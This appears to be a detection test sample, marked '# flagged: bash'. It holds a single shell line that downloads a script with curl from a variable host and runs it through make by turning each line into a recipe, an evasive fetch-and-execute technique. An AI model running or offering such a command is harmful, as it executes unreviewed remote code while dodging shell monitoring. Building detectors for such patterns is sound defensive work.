# flagged: bash
make -s --file=<(curl -s "$RG_HTTP/hello.sh" | sed 's/^/all: ; @/')
